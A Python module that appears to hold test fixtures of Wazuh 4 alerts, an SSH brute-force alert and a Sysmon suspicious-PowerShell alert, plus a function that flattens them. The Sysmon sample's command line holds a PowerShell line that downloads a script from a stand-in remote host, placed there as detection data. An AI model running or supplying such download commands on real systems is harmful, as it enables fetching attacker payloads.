"""Alerts of Wazuh 4 as its manager writes them, and as others flatten them."""

from __future__ import annotations

from typing import Any

SSHD: dict[str, Any] = {
    "timestamp": "2026-08-20T08:00:56.123+0000",
    "rule": {
        "level": 10,
        "description": "sshd: brute force trying to get access to the system. Non existent user.",
        "id": "5712",
        "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
        "frequency": 8,
        "firedtimes": 2,
        "mail": False,
        "groups": ["syslog", "sshd", "authentication_failures"],
    },
    "agent": {"id": "003", "name": "web-01", "ip": "10.0.0.3", "labels": {"customer": "acme"}},
    "manager": {"name": "wazuh-manager"},
    "id": "1787212856.118273",
    "cluster": {"name": "wazuh", "node": "worker-01"},
    "previous_output": "Aug 20 08:00:51 web-01 sshd[2230]: Invalid user admin from 203.0.113.8 port 50120",
    "full_log": "Aug 20 08:00:56 web-01 sshd[2231]: Failed password for invalid user admin from 203.0.113.9 port 50122",
    "predecoder": {"program_name": "sshd", "timestamp": "Aug 20 08:00:56", "hostname": "web-01"},
    "decoder": {"parent": "sshd", "name": "sshd"},
    "data": {"srcip": "203.0.113.9", "srcport": "50122", "srcuser": "admin"},
    "location": "/var/log/auth.log",
    "GeoLocation": {"country_name": "Nowhere", "location": {"lat": 1.0, "lon": 2.0}},
}

SYSMON: dict[str, Any] = {
    "timestamp": "2026-08-20T08:01:00.000+0000",
    "rule": {"level": 12, "description": "Sysmon - Suspicious PowerShell", "id": 92027, "mitre": {"id": ["T1059.001"]}},
    "agent": {"id": "017", "name": "WS01", "ip": "10.0.1.17"},
    "id": "1787212860.118274",
    "data": {
        "win": {
            "system": {
                "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
                "eventID": "1",
                "channel": "Microsoft-Windows-Sysmon/Operational",
                "computer": "WS01.corp.example",
                "message": '"Process Create: http://192.0.2.77/not-again"',
            },
            "eventdata": {
                "image": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
                "originalFileName": "PowerShell.EXE",
                "commandLine": "powershell -c iwr http://198.51.100.7/a.ps1",
                "hashes": "MD5=0CC175B9C0F1B6A831C399E269772661,"
                "SHA256=CA978112CA1BBDCAFAC231B39A23DC4DA786EFF8147C4E72B9807785AFEE48BB,IMPHASH="
                "0C11E0F6CE3D6F0E60E4E8E1E5F1A9E3",
                "parentImage": "C:\\\\Windows\\\\explorer.exe",
                "user": "CORP\\\\alice",
                "processGuid": "{691ff406-e58c-661f-b401-000000002300}",
            },
        }
    },
    "location": "EventChannel",
}


def flattened(document: dict[str, Any], joint: str, prefix: str = "") -> dict[str, Any]:
    """What a JSON extractor makes of a document: one object, lists joined to text."""
    flat: dict[str, Any] = {}
    for key, value in document.items():
        if isinstance(value, dict):
            flat.update(flattened(value, joint, f"{prefix}{key}{joint}"))
        else:
            flat[f"{prefix}{key}"] = ", ".join(map(str, value)) if isinstance(value, list) else value
    return flat
